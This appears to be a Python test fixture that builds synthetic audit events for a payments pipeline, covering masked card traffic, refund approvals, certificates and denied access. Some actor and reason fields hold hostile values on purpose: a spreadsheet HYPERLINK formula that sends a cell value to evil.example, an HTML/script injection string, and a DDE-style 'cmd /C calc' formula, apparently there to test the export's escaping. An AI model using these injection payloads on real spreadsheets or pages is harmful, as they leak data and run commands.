"""Events of some days as a pack is made of: traffic, people, alarms; what others may write is hostile where it can be."""

# ruff: noqa: E501  # tables

import random
from collections.abc import Iterator
from datetime import UTC, datetime
from enum import StrEnum

from pipeline.audit.events import EventType, timestamp
from tests.exporting import Told

START = int(datetime(2026, 10, 1, tzinfo=UTC).timestamp()) * 1000
DAY, HOUR = 86_400_000, 3_600_000
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
SCRIPT = '"><img src=http://evil.example/x onerror=document.title="owned"><script>document.title="owned"</script>'
PEOPLE = ("ana@pay.example", "carla@pay.example")


class Access(StrEnum):
    """As the brokers' own log has them."""

    READ = "access.read"
    DENIED = "access.denied"


def lane(number: int, days: int = 30, a_day: int = 40) -> Iterator[Told]:
    """One lane's events, in order of time."""
    events = [*_life(number), *_traffic(number, days, a_day), *(_people(number, days))]
    return iter(sorted(events, key=lambda each: each[1]))


def _traffic(number: int, days: int, a_day: int) -> Iterator[Told]:
    chance = random.Random(number)
    for n in range(days * a_day):
        ms = START + n * DAY // a_day + chance.randrange(HOUR)
        record = f"quarantine.payments.checkout/{number}/{n}"
        if chance.random() < 0.04:
            reason = chance.choice(["malformed-json", "too-large", "identity-missing"])
            yield (
                EventType.RECORD_REJECTED,
                ms,
                {
                    "actor": {"principal": "checkout"},
                    "outcome": "rejected",
                    "reason": reason,
                    "resource": {"record": record},
                },
            )
            continue
        masking = [{"by": "field", "class": "pan", "key": "k1", "path": "$.card.number", "strategy": "token"}]
        if n % 3 == 0:
            masking.append({"by": "field", "class": "sad", "path": "$.card.cvv", "strategy": "drop"})
        if n % 11 == 0:
            masking.append({"by": "scan", "class": "iban", "path": "$.note", "strategy": "redact"})
        yield (
            EventType.RECORD_RELEASED,
            ms,
            {
                "actor": {"principal": "checkout"},
                "outcome": "released",
                "resource": {"record": record, "sha256": "ef" * 32},
                "masking": masking,
            },
        )


def _people(number: int, days: int) -> Iterator[Told]:
    chance = random.Random(100 + number)
    for n in range(2 * days):
        record, ms = f"quarantine.payments.refunds/{number}/{n}", START + n * DAY // 2 + chance.randrange(HOUR)
        owner = {"actor": {"principal": "refunds"}, "resource": {"record": record, "sha256": "ef" * 32}}
        yield (
            EventType.RECORD_HELD,
            ms,
            {
                **owner,
                "outcome": "held",
                "reason": "large-refund",
                "approval": {"rule": "large-refund", "quorum": 2, "expires": START + 90 * DAY},
            },
        )
        took = int(min(20 * HOUR, chance.lognormvariate(14.2, 1.6)))
        deny = chance.random() < 0.15
        for person in PEOPLE[: 1 if deny else 2]:
            ms += took
            decision = {"decision": "deny" if deny else "approve", "rule": "large-refund", "jti": f"j{n}"}
            reason = HOSTILE if n == 3 else SCRIPT if n == 4 else "checked with the customer"
            proof = {"message": "ey…", "received": timestamp(ms - 40).decode()}
            yield (
                EventType.DECISION_ACCEPTED,
                ms,
                {
                    "actor": {"person": person},
                    "reason": reason,
                    "resource": {"record": record, "decision": f"panlock.decisions/{number}/{n}"},
                    "approval": decision,
                    "proof": proof,
                },
            )
        if deny:
            yield EventType.RECORD_REJECTED, ms, {**owner, "outcome": "rejected", "reason": "denied"}
        else:
            yield (
                EventType.RECORD_RELEASED,
                ms,
                {**owner, "outcome": "released", "approval": {"rule": "large-refund", "people": list(PEOPLE)}},
            )


def _life(number: int) -> Iterator[Told]:
    worker = {"actor": {"worker": "panlock-worker@host/1"}}
    yield EventType.LANE_OPENED, START, worker
    yield EventType.KEY_FIRST_USED, START + 1, {**worker, "key": {"kind": "token", "id": "k1", "from": "vault"}}
    for n, to in enumerate(("2026-10-20", "2026-11-20", "2027-06-01")):
        yield (
            EventType.CERTIFICATE_SEEN,
            START + 2,
            {
                "actor": {"principal": "refunds"},
                "certificate": {
                    "serial": f"{number}a{n}",
                    "spiffe": "spiffe://pay.example/refunds",
                    "from": "2026-09-01T00:00:00Z",
                    "to": f"{to}T00:00:00Z",
                    "chain": [],
                },
            },
        )
    yield (
        EventType.POLICY_APPLIED,
        START + 3,
        {"actor": {"person": SCRIPT}, "reason": SCRIPT, "resource": {"bundle": "cd" * 32, "version": "2"}},
    )
    yield EventType.LANE_OPENED, START + 5 * DAY, {"actor": {"worker": "panlock-worker@host/2"}}
    yield (
        EventType.RECORDS_LOST,
        START + 6 * DAY,
        {
            **worker,
            "resource": {"topic": "quarantine.payments.checkout", "partition": number},
            "lost": {"from": 1, "to": 2},
        },
    )
    for n in range(6):
        yield (
            EventType.DECISION_REFUSED,
            START + 7 * DAY + n,
            {
                "actor": {"person": "mallory@pay.example"},
                "reason": "wrong-role",
                "resource": {"decision": f"panlock.decisions/{number}/{900 + n}"},
            },
        )
    yield (
        EventType.VALUE_REVEALED,
        START + 8 * DAY,
        {
            "actor": {"person": "@SUM(1+1)*cmd|' /C calc'!A0"},
            "reason": "chargeback 1177",
            "resource": {"flow": "payments", "class": "pan", "sha256": "aa" * 32},
        },
    )
    yield (
        EventType.IDENTITY_DENIED,
        START + 9 * DAY,
        {"actor": {"person": "ops@pay.example"}, "reason": "\t=1+1", "denied": {"principal": "refunds"}},
    )
    for n, principal in enumerate(("ledger", SCRIPT)):
        access = {"node": "1", "operation": "READ", "request": "FETCH", "count": 20 - n}
        yield (
            Access.DENIED,
            START + 11 * DAY + n,
            {
                "actor": {"principal": principal, "host": "10.0.0.7"},
                "outcome": "denied",
                "resource": {"topic": "quarantine.payments.checkout"},
                "access": access,
            },
        )
    yield (
        Access.READ,
        START + 12 * DAY,
        {
            "actor": {"principal": "admin", "host": "10.0.0.7"},
            "outcome": "allowed",
            "resource": {"topic": "clean.payments", "holds": "clean"},
            "access": access,
            "finding": "not-by-policy",
        },
    )
    yield EventType.LANE_CLOSED, START + 31 * DAY, worker
